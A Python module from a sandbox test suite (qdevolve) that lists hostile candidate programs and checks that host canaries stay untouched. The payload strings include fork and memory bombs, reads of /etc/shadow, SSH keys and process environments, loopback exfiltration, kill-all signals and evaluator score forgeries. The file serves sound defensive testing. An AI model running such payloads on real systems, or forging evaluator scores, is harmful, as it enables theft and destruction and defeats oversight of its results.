"""The built-in attack catalogue and its host checks.

Each :class:`Attack` is a small hostile program run with the built-in evaluator, the
statuses it may legitimately end with, and the host-side facts that must hold afterwards.
:class:`HostCanaries` plants what an attack would try to steal or break: a canary in the
controller's environment, a canary file and a SQLite database beside it, an evaluator file,
the honest evaluator with a secret in its source and in the data file beside it (which only
the trusted side may read), and a loopback listener. :func:`check_attack` runs one attack and returns the list of
violated assertions (empty = the sandbox held); ``qdevolve sandbox check`` and
``tests/sandbox`` both use it.

Placeholders in payloads: ``__PORT__`` (listener port), ``__CANARY_FILE__``, ``__DB__``,
``__EVALUATOR__``, ``__HOSTDIR__``, ``__HONESTDIR__`` (the honest evaluator's directory).
"""

from __future__ import annotations

import hashlib
import os
import secrets
import shutil
import socket
import sqlite3
import tempfile
import threading
import time
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path

from qdevolve.sandbox import isolation_attacks as _iso
from qdevolve.sandbox import origin_attacks as _origin
from qdevolve.sandbox._proc import sandbox_processes
from qdevolve.sandbox.forgeries import (
    FORGERIES,
    HONEST_PACKING,
    HONEST_PACKING_SCORE,
    HONEST_SCORE,
    PLANTED_MODULE,
    forged_record,
    forgery_code,
    write_honest_evaluator,
)
from qdevolve.sandbox.limits import SandboxLimits
from qdevolve.types import EvalResult, Program

__all__ = ["Attack", "ATTACKS", "HostCanaries", "CheckRow", "check_attack", "check_limits",
           "sandbox_processes", "run_catalogue"]

CANARY_ENV = "QDEVOLVE_CANARY"


@dataclass(frozen=True)
class Attack:
    """One hostile program and what the sandbox must make of it."""

    name: str
    code: str
    expected: frozenset[str]
    doc: str
    max_output: bool = False  # the artifacts must show truncation
    host_paths: tuple[str, ...] = ()  # host paths (placeholders allowed) that must not exist
    honest: float | None = None  # forging: run against the honest evaluator; the score it must get
    evaluator: str | None = None  # forging: the evaluator's source (default: the honest circle packer)
    runs: int = 1  # evaluations of the program in a row, the last one checked (warm persistence)
    before: str | None = None  # a program evaluated once first, in the same sandbox (warm heap)
    wrap: str | None = None  # the evaluator is one of this framework's, adapted (``wrappers[wrap]``)
    effects: Callable[[EvalResult, HostCanaries], list[str]] | None = None  # did the attack fail?
    wall_s: float | None = None  # a longer wall clock, where only another limit may decide the status

    @property
    def category(self) -> str:
        return "containment" if self.honest is None else "forging"


def _a(name: str, expected: Iterable[str], doc: str, code: str, **kw) -> Attack:
    return Attack(name, code.strip() + "\n", frozenset(expected), doc, **kw)


ATTACKS: tuple[Attack, ...] = (
    _a("cpu_loop", {"timeout"}, "infinite CPU loop", "while True:\n    pass"),
    _a("sleep", {"timeout"}, "sleep far beyond the wall clock", "import time\ntime.sleep(10_000)"),
    _a("stdin_read", {"error"}, "blocking input(): stdin is /dev/null, so EOF", "input()"),
    _a("memory_bomb", {"memory"}, "allocate 16 GiB at once", "x = bytearray(1 << 34)"),
    _a("memory_growth", {"memory", "timeout"}, "grow a list until something gives",
       "chunks = []\nwhile True:\n    chunks.append(bytearray(8 << 20))"),
    _a("fork_bomb", {"error", "killed", "timeout"}, "fork without end",
       "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
    _a("orphans", {"ok"}, "double fork + setsid; grandchildren sleep forever",
       """
import os, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(10_000)
        os._exit(0)
time.sleep(0.2)
print("parent done")
"""),
    _a("zombies", {"ok"}, "children never waited for",
       "import os\nfor _ in range(5):\n    if os.fork() == 0:\n        os._exit(0)\nprint('left zombies')"),
    _a("write_outside", {"ok", "error"}, "write to /etc, $HOME, .., the host dir and the DB path",
       """
import os
for p in ["/etc/qdevolve-pwned", os.path.expanduser("~/qdevolve-pwned"), "../qdevolve-pwned",
          "__HOSTDIR__/pwned", "/tmp/../qdevolve-pwned-root"]:
    try:
        with open(p, "w") as fh:
            fh.write("pwned")
        print("wrote", p)
    except OSError as exc:
        print("refused", p, exc.errno)
""", host_paths=("/etc/qdevolve-pwned", "__HOSTDIR__/pwned", "/qdevolve-pwned-root",
                 "/tmp/qdevolve-pwned", "/root/qdevolve-pwned")),
    _a("tamper_db_evaluator", {"ok", "error"}, "delete or overwrite the DB and the evaluator",
       """
import os
for p in ["__DB__", "__EVALUATOR__"]:
    try:
        os.remove(p)
        print("removed", p)
    except OSError as exc:
        print("refused remove", p, exc.errno)
    try:
        with open(p, "w") as fh:
            fh.write("def evaluate(p):\\n    return {'combined_score': 1e9}\\n")
        print("overwrote", p)
    except OSError as exc:
        print("refused write", p, exc.errno)
"""),
    _a("network_loopback", {"error"}, "connect to a listener on the host's loopback",
       """
import socket
s = socket.create_connection(("127.0.0.1", __PORT__), timeout=1)
s.sendall(b"stolen")
"""),
    _a("network_dns", {"error"}, "resolve a name", "import socket\nprint(socket.getaddrinfo('example.com', 80))"),
    _a("env_secrets", {"ok", "error"}, "print os.environ and /proc/1, /proc/self, parent environ",
       """
import os
print(dict(os.environ))
for pid in ["1", "self", str(os.getppid())]:
    try:
        print(pid, open(f"/proc/{pid}/environ", "rb").read())
    except OSError as exc:
        print(pid, "refused", exc.errno)
"""),
    _a("read_host_files", {"ok", "error"}, "read the canary file, ~/.ssh, /root and the DB",
       """
import os
for p in ["__CANARY_FILE__", "__DB__", "/root/.ssh/id_rsa", "/etc/shadow"]:
    try:
        print(p, open(p, "rb").read()[:200])
    except OSError as exc:
        print(p, "refused", exc.errno)
for d in ["/root", "__HOSTDIR__"]:
    try:
        print(d, os.listdir(d))
    except OSError as exc:
        print(d, "refused", exc.errno)
"""),
    _a("kill_parent", {"ok", "error", "killed"}, "SIGKILL the parent, then keep going",
       "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError as e:\n    print(e)\nprint('alive')"),
    _a("kill_everything", {"ok", "error", "killed"}, "kill(-1, SIGKILL): every process it may signal",
       "import os, signal\nos.kill(-1, signal.SIGKILL)\nprint('alive')"),
    _a("stdout_flood", {"ok", "error", "timeout"}, "write to stdout without end",
       "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)", max_output=True),
    _a("stderr_blob", {"ok"}, "one 8 MiB string on stderr",
       "import sys\nsys.stderr.write('y' * (8 << 20))", max_output=True),
    _a("huge_file", {"error"}, "write a 1 GiB file in the work dir",
       "with open('big.bin', 'wb') as fh:\n    for _ in range(1024):\n        fh.write(b'0' * (1 << 20))"),
    _a("many_files", {"ok", "error", "timeout"}, "create files until something gives",
       "import os\nos.makedirs('many', exist_ok=True)\nfor i in range(20000):\n    open(f'many/{i}', 'w').write('x' * 512)"),
    _a("fd_exhaustion", {"error"}, "open files until EMFILE",
       "fds = []\nwhile True:\n    fds.append(open('/dev/null'))"),
    _a("exit_early", {"error"}, "os._exit(0) before the evaluator writes its record",
       "import os\nos._exit(0)"),
    _a("forge_record", {"error", "invalid"}, "write a fake result record to every fd and file, then leave",
       """
import json, os
fake = json.dumps({"nonce": "0" * 32, "status": "ok", "score": 1e9, "metrics": {}}).encode()
for name in os.listdir("."):
    try:
        with open(name, "wb") as fh:
            fh.write(fake)
    except OSError:
        pass
for fd in range(64):
    try:
        os.write(fd, fake)
    except OSError:
        pass
os._exit(0)
"""),
    _a("surrogate_text", {"invalid"}, "exit with a lone surrogate in the message: the record's text is "
       "not valid Unicode and is rejected after decoding", "import sys\nsys.exit('bad \\ud800 text')"),
    _a("forge_stdout", {"error"}, "print a fake JSON score and leave",
       "import os, sys\nprint('{\"status\": \"ok\", \"score\": 1e9}')\nsys.stdout.flush()\nos._exit(0)"),
    _a("ignore_signals", {"timeout"}, "ignore SIGTERM/SIGXCPU/SIGALRM, reset timers, spin",
       """
import signal
for s in (signal.SIGTERM, signal.SIGXCPU, signal.SIGALRM, signal.SIGINT, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    pass
"""),
    _a("slow_exit", {"ok", "timeout"}, "atexit handler and SystemExit catcher that sleep",
       "import atexit, time\natexit.register(time.sleep, 10_000)\nprint('done')"),
    _a("raw_syscalls", {"ok", "error"}, "ctypes: setuid(0), unshare, mount (each must return -1)",
       _origin.RAW_SYSCALLS, effects=_origin.syscalls_failed),
    _a("proc_sys_poke", {"ok", "error", "timeout"},
       "write /proc/sys, /proc/sysrq-trigger, /sys; ptrace pid 1 (each must fail; the host's "
       "hostname unchanged; stopping the sandbox's own init may stall it until the wall clock)",
       _origin.PROC_SYS_POKE, effects=_origin.proc_sys_untouched),
    _a("non_utf8", {"ok"}, "bytes that are not UTF-8 on both streams",
       "import sys\nsys.stdout.buffer.write(b'\\xff\\xfe\\x80 ok')\nsys.stderr.buffer.write(b'\\xc3\\x28')"),
)


_FAILED = frozenset({"error", "timeout", "memory", "killed", "invalid"})
#: Containment attacks (built-in evaluator) then forgeries (against the honest evaluator).
ATTACKS = ATTACKS + tuple(
    Attack(name, forgery_code(name), _FAILED | {"ok"}, doc, honest=HONEST_SCORE)
    for name, (doc, _code) in FORGERIES.items()
) + (
    # the control: the honest evaluator, which reads a data file beside itself, scores a valid
    # packing exactly (so its directory travelled with it and the forging rows are not vacuous)
    Attack("honest_with_data", HONEST_PACKING, frozenset({"ok"}),
           "a valid packing scored by the honest evaluator, which reads the data file beside it",
           honest=HONEST_PACKING_SCORE),
)


# issue 19: what crosses the wire, warm persistence, memory across a process tree
ATTACKS = ATTACKS + (
    Attack("lying_values", _iso.LYING_VALUES.strip() + "\n", _FAILED | {"ok"},
           "return an object whose len/iter/getitem lie (a proxy in the runner would make a "
           "zero-length tour valid)", honest=_iso.honest_tour_score(), evaluator=_iso.TOUR_EVALUATOR),
    Attack("pointer_array", _iso.POINTER_ARRAY.strip() + "\n", frozenset({"error", "ok"}),
           "return an object whose __array_interface__ points into memory (the runner must never "
           "follow it: no read, no crash)", honest=0.0, evaluator=_iso.WEIGHTS_EVALUATOR),
    _a("warm_persistence", {"ok"}, "files in every writable directory, SysV shared memory and "
       "message queues, a POSIX message queue: written by one evaluation, looked for in the next",
       _iso.PERSIST, runs=2),
    _a("memory_tree", {"memory"}, "six processes of 100 MiB each under a 256 MiB limit: memory is "
       "capped per evaluation, not per process", _iso.MEMORY_TREE,
       wall_s=20.0),  # six forks that touch 600 MiB can pass 3 s on a loaded machine: the memory cap decides
)

# issue 29: code from the candidate's bytes in the runner, memory a warm candidate inherits,
# the ShinkaEvolve adapter's results
ATTACKS = ATTACKS + (
    Attack("forge_newline_exec", _origin.NEWLINE_FORGERY % forged_record("1e99"), _FAILED | {"ok"},
           "CRLF program whose module body writes the record, run by an evaluator doing "
           "exec(open(path).read()) (text mode: LF): it must run in the candidate's process",
           honest=0.25, evaluator=_origin.EXEC_EVALUATOR),
    _a("warm_heap_read", {"ok"}, "scan /proc/self/mem for the text of the evaluation before "
       "(warm: a fork of the same template)", _origin.HEAP_READ, before=_origin.HEAP_BEFORE,
       effects=_origin.heap_clean),
    Attack("adapter_fifo_swap", _origin.FIFO_SWAP.strip() + "\n", _FAILED | {"ok"},
           "ShinkaEvolve adapter: a FIFO as correct.json holds main() while metrics.json is replaced",
           honest=0.25, evaluator=_origin.SHINKA_EVALUATE, wrap="shinka"),
    Attack("adapter_planted_module",
           _origin.PLANTED_SWAP.replace("__PLANT__", repr(PLANTED_MODULE % forged_record("1e99"))).strip() + "\n",
           _FAILED | {"ok"}, "ShinkaEvolve adapter: a module planted on its import path writes the record",
           honest=0.25, evaluator=_origin.SHINKA_EVALUATE, wrap="shinka"),
)


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "<missing>"


class HostCanaries:
    """Canaries and a listener on the host; use as a context manager."""

    def __init__(self) -> None:
        self.dir = Path(tempfile.mkdtemp(prefix="qdevolve-canary-"))
        self.env_value = "envcanary-" + secrets.token_hex(12)
        self.file_value = "filecanary-" + secrets.token_hex(12)
        self.canary_file = self.dir / "secret.txt"
        self.canary_file.write_text(self.file_value)
        self.db = self.dir / "lineage.sqlite"
        with sqlite3.connect(self.db) as conn:
            conn.execute("create table t (x text)")
            conn.execute("insert into t values (?)", (self.file_value,))
        conn.close()
        self.evaluator = self.dir / "plain" / "evaluator.py"
        self.evaluator.parent.mkdir()
        self.evaluator.write_text("def evaluate(program_path):\n    return {'combined_score': 1.0}\n")
        self.source_value = "srccanary-" + secrets.token_hex(12)
        self.data_value = "datacanary-" + secrets.token_hex(12)
        self.honest_evaluator = write_honest_evaluator(self.dir / "honest", self.source_value, self.data_value)
        self.honest_data = self.honest_evaluator.parent / "honest_data.json"
        self.job_value = "jobcanary-" + secrets.token_hex(12)  # in an earlier evaluation's program
        self.hostname = socket.gethostname()
        self.received: list[bytes] = []
        self._srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._srv.bind(("127.0.0.1", 0))
        self._srv.listen(16)
        self._srv.settimeout(0.2)
        self.port = self._srv.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._listen, daemon=True, name="qdevolve-canary-listener")
        self._thread.start()
        self._old_env = os.environ.get(CANARY_ENV)
        os.environ[CANARY_ENV] = self.env_value
        self.checksums = self.sums()

    def _listen(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._srv.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(b"<connection>" + conn.recv(4096))
                except OSError:
                    self.received.append(b"<connection>")

    def sums(self) -> dict[str, str]:
        return {"db": _sha(self.db), "evaluator": _sha(self.evaluator), "canary": _sha(self.canary_file),
                "honest_evaluator": _sha(self.honest_evaluator), "honest_data": _sha(self.honest_data)}

    def render(self, code: str) -> str:
        return (code.replace("__PORT__", str(self.port)).replace("__CANARY_FILE__", str(self.canary_file))
                .replace("__DB__", str(self.db)).replace("__EVALUATOR__", str(self.evaluator))
                .replace("__HOSTDIR__", str(self.dir))
                .replace("__HONESTDIR__", str(self.honest_evaluator.parent))
                .replace("__JOBCANARY__", self.job_value))

    def close(self) -> None:
        self._stop.set()
        self._srv.close()
        self._thread.join(2)
        if self._old_env is None:
            os.environ.pop(CANARY_ENV, None)
        else:
            os.environ[CANARY_ENV] = self._old_env
        shutil.rmtree(self.dir, ignore_errors=True)

    def __enter__(self) -> HostCanaries:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


@dataclass
class CheckRow:
    """One line of ``qdevolve sandbox check``."""

    attack: str
    expected: str
    got: str
    seconds: float
    failures: list[str] = field(default_factory=list)
    result: EvalResult | None = None

    @property
    def passed(self) -> bool:
        return not self.failures


FLOOD_STORED_BYTES = 64 * 1024  # stored output at least this long after a flood must be marked truncated


def check_limits() -> SandboxLimits:
    """Small limits that keep the catalogue fast (wall 3 s, CPU 1 s, 256 MiB, 32 processes)."""
    return SandboxLimits(wall_s=3.0, cpu_s=1.0, memory_mb=256, processes=32,
                         output_bytes=64 * 1024, file_size_bytes=4 << 20, open_files=64, tmpfs_mb=32)


def _blob(result: EvalResult) -> str:
    return "\n".join([result.error or "", *result.artifacts.keys(), *result.artifacts.values()])


def _expected(attack: Attack) -> str:
    if attack.honest is not None:
        return f"score {attack.honest:g}|failed"
    return "|".join(sorted(attack.expected))


def _evaluator_of(attack: Attack, host: HostCanaries, wrappers: Mapping[str, Callable[[Path], Path]]):
    evaluator = None if attack.honest is None else host.honest_evaluator
    if attack.evaluator is not None:
        d = host.dir / f"evaluator_{attack.name}"
        d.mkdir(exist_ok=True)
        evaluator = d / ("evaluate.py" if attack.wrap else "evaluator.py")
        evaluator.write_text(attack.evaluator)
        if attack.wrap:
            (d / "helper.py").write_text("X = 1\n")  # a sibling module of the adapted evaluator
            if attack.wrap not in wrappers:
                raise LookupError(f"the row needs the {attack.wrap!r} evaluator adapter: pass "
                                  f"wrappers={{{attack.wrap!r}: ...}} (qdevolve sandbox check does)")
            evaluator = wrappers[attack.wrap](evaluator)
    return evaluator


def check_attack(box, attack: Attack, host: HostCanaries, limits: SandboxLimits | None = None, *,
                 leftovers: Callable[[], list[str]] | None = None,
                 wrappers: Mapping[str, Callable[[Path], Path]] | None = None) -> CheckRow:
    """Run ``attack`` in ``box`` and check every host-side assertion and the attack's effects
    (``Attack.effects``); never raises. ``wrappers`` adapt evaluators of other frameworks
    (``"shinka"``: the ShinkaEvolve adapter, which lives above the sandbox layer)."""
    limits = limits or check_limits()
    if attack.wall_s is not None and attack.wall_s > limits.wall_s:
        limits = replace(limits, wall_s=attack.wall_s)
    failures: list[str] = []
    t0 = time.monotonic()
    try:
        evaluator = _evaluator_of(attack, host, wrappers or {})
        if attack.before is not None:
            box.evaluate(Program(code=host.render(attack.before)), None, limits)
        for _ in range(attack.runs):
            result = box.evaluate(Program(code=host.render(attack.code)), evaluator, limits)
    except Exception as exc:  # noqa: BLE001 - a raise IS the failure being checked
        return CheckRow(attack.name, _expected(attack), "raised",
                        time.monotonic() - t0, [f"evaluate raised {type(exc).__name__}: {exc}"])
    seconds = time.monotonic() - t0
    if result.status not in attack.expected:
        failures.append(f"status {result.status} ({result.error}) not in {sorted(attack.expected)}")
    if attack.honest is not None:
        if result.status == "ok" and result.score != attack.honest:
            failures.append(f"FORGED: stored score {result.score!r}, honest score {attack.honest!r}")
        elif result.status != "ok" and result.score is not None:
            failures.append(f"a failed status ({result.status}) carries a score {result.score!r}")
    if seconds > limits.wall_s + 5.0:
        failures.append(f"took {seconds:.1f} s, wall limit {limits.wall_s} s")
    blob = _blob(result)
    if host.env_value in blob:
        failures.append("the controller's environment canary leaked into the result")
    if host.file_value in blob:
        failures.append("the canary file's content leaked into the result")
    if host.source_value in blob:
        failures.append("the candidate read the evaluator's source")
    if host.data_value in blob:
        failures.append("the candidate read the data file beside the evaluator")
    if host.received:
        failures.append(f"the host loopback listener received {host.received[:2]!r}")
        host.received.clear()
    for key in ("stdout", "stderr"):
        if len(result.artifacts.get(key, "").encode("utf-8", "replace")) > 4 * limits.output_bytes:
            failures.append(f"artifact {key} exceeds the output cap")
    stored = sum(len(result.artifacts.get(k, "")) for k in ("stdout", "stderr"))
    if attack.max_output and stored >= FLOOD_STORED_BYTES and "truncated" not in result.artifacts:
        # a flood that is stored (in part) must say so; one stored not at all (docker, where a
        # candidate's stdout never reaches the controller after a kill) is bounded already
        failures.append("flooded output stored without the truncated marker")
    if attack.effects is not None:
        failures += attack.effects(result, host)
    sums = host.sums()
    if sums != host.checksums:
        failures.append(f"host files changed: {sorted(k for k in sums if sums[k] != host.checksums[k])}")
    for p in attack.host_paths:
        if Path(host.render(p)).exists():
            failures.append(f"host path {host.render(p)} was created")
    if leftovers is not None:
        left = leftovers()
        if left:
            failures.append("left behind: " + ", ".join(left[:5]))
    return CheckRow(attack.name, _expected(attack), result.status, seconds, failures, result)


def backend_leftovers(box) -> Callable[[], list[str]]:
    """A leftover check for a built-in backend: processes, containers and run directories."""
    def check() -> list[str]:
        out: list[str] = []
        staging = getattr(box, "staging", None)
        if staging is not None and staging.work_root.exists():
            runs = [p.name for p in staging.work_root.rglob("run-*")]
            out += [f"work dir {r}" for r in runs]
        uids = getattr(box, "uids", None)
        if uids is not None:
            pool = set(uids.used)
            deadline = time.monotonic() + 2.0
            pids = sandbox_processes(pool)
            while pids and time.monotonic() < deadline:  # the kernel tears a pid ns down async
                time.sleep(0.05)
                pids = sandbox_processes(pool)
            out += [f"process {p}" for p in pids]
        if hasattr(box, "containers"):
            n_ok = len(getattr(box, "_warm", {})) if getattr(box, "warm", False) else 0
            held = box.containers()
            if len(held) > n_ok:
                out += [f"container {c[:12]}" for c in held]
        return out
    return check


def run_catalogue(box, limits: SandboxLimits | None = None, attacks: Iterable[Attack] = ATTACKS,
                  on_row: Callable[[CheckRow], None] | None = None,
                  wrappers: Mapping[str, Callable[[Path], Path]] | None = None) -> list[CheckRow]:
    """Run every attack against ``box`` with fresh host canaries; one row each, plus a final
    ``next_evaluation`` row checking that an ordinary program still scores 1.0."""
    rows = []
    with HostCanaries() as host:
        leftovers = backend_leftovers(box)
        for attack in attacks:
            row = check_attack(box, attack, host, limits, leftovers=leftovers, wrappers=wrappers)
            rows.append(row)
            if on_row:
                on_row(row)
        t0 = time.monotonic()
        result = box.evaluate(Program(code="print('still here')"), host.evaluator, limits or check_limits())
        fails = [] if result.status == "ok" and result.score == 1.0 else [f"{result.status}: {result.error}"]
        row = CheckRow("next_evaluation", "ok", result.status, time.monotonic() - t0, fails, result)
        rows.append(row)
        if on_row:
            on_row(row)
    return rows
